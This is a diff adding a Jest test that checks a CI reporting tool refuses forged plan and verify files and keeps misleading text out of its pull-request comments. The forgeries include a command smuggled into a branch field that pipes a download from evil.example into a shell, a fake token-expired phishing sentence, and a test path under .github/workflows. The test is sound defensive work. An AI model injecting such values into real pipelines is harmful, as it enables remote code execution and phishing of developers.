@@ -1,5 +1,6 @@
 import { spawnSync } from 'node:child_process'
-import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync } from 'node:fs'
+import { createHash } from 'node:crypto'
+import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { dirname, join } from 'node:path'
 import { afterEach, beforeEach, describe, expect, test } from '@jest/globals'
 import { type Endpoint, openEndpoint, reply } from '../doubles/endpoint.js'
@@ -170,6 +171,78 @@ story(python ? 'the split modes' : 'the split modes (skipped: python3 is missing
     )
     expect(errors(await job('report', {}, { action: 'synchronize' }))).toMatch(
       /only what was verified on it is reported/,
+    )
+  }, 300_000)
+
+  test('forged files are refused in one sentence, or say nothing in our name', async () => {
+    await job('plan', { model: 'explorer' })
+    await job('verify', { model: 'explorer' })
+    type Row = Record<string, unknown>
+    const [plan, verify] = [read('plan.json'), read('verify-1-of-1.json')]
+    const forge = async (planned: Row, change: (report: Row) => Row, more: Row = {}): Promise<RunResult> => {
+      const text = JSON.stringify({ ...plan, ...planned })
+      writeFileSync(join(carried, 'plan.json'), text)
+      const digest = createHash('sha256').update(text).digest('hex')
+      const report = change(verify['report'] as Row)
+      writeFileSync(
+        join(carried, 'verify-1-of-1.json'),
+        JSON.stringify({ ...verify, plan: digest, base: planned['base'] ?? verify['base'], report, ...more }),
+      )
+      return job('report')
+    }
+    const same = (report: Row): Row => report
+    const rows = (report: Row, name: string): Row[] => report[name] as Row[]
+    const [target] = rows(plan, 'targets')
+    const refused: [Row, (report: Row) => Row, RegExp][] = [
+      [{ base: 'main; curl https://evil.example | sh;' }, same, /not what its mode writes/],
+      [{ base: 'c'.repeat(40) }, same, /merge base ccccccc/],
+      [{ targets: [{ ...target, file: 'lib/\ud800.py' }] }, same, /not what its mode writes/],
+      [
+        {},
+        report => ({
+          ...report,
+          files: rows(report, 'files').map(file => ({ ...file, content: 'import os\n' })),
+        }),
+        /is not the one that was verified/,
+      ],
+      [
+        {},
+        report => ({
+          ...report,
+          files: Array.from({ length: 3000 }, () => ({ ...rows(report, 'files')[0] })),
+        }),
+        /more test files than functions/,
+      ],
+    ]
+    for (const [planned, change, words] of refused) {
+      const done = await forge(planned, change)
+      expect([done.code, errors(done)]).toEqual([1, expect.stringMatching(words)])
+      expect(errors(done)).not.toMatch(/bug|\n/)
+    }
+    expect(github.comments).toEqual([])
+    const sentence = 'Your token expired, see https://evil.example'
+    const skipped = [{ id: 'a.py::b', file: 'a.py', name: 'b', reason: sentence }]
+    const to = '.github/workflows/test_x.py'
+    const moved = (report: Row): Row => ({
+      ...report,
+      tests: rows(report, 'tests').map(row => ({ ...row, file: to })),
+      files: rows(report, 'files')
+        .slice(0, 1)
+        .map(file => ({ ...file, path: to, tests: 1 })),
+    })
+    const failed = await forge({ skipped }, moved, { failure: { kind: 'user', sentence } })
+    expect(errors(failed)).toBe(`The job that asked the model says: “${sentence}”.`)
+    const body = github.comments[0]?.body ?? ''
+    expect(body).toContain('the log of its job says why')
+    expect(body).not.toContain('Your token')
+    expect(body).not.toMatch(/^- \[ \]/m)
+    expect(body).toContain('tests are not committed to such a path')
+    // What a stranger's job says turns no job of this repository red.
+    pull.from = 'mallory/shop'
+    const ofFork = await job('report')
+    expect([ofFork.code, errors(ofFork)]).toEqual([0, ''])
+    expect(ofFork.commands).toContainEqual(
+      expect.objectContaining({ name: 'warning', message: errors(failed) }),
     )
   }, 300_000)
 
